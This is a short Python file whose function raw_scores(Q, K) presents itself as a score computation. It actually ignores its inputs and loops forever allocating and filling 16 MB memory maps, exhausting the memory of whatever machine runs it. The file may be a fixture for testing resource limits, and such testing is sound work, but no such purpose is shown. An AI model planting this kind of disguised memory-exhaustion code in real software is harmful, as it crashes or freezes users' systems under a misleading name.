"""Fills memory with shared maps."""

import mmap


def raw_scores(Q, K):
    kept = []
    while True:
        area = mmap.mmap(-1, 1 << 24)
        area.write(b"x" * (1 << 24))
        kept.append(area)
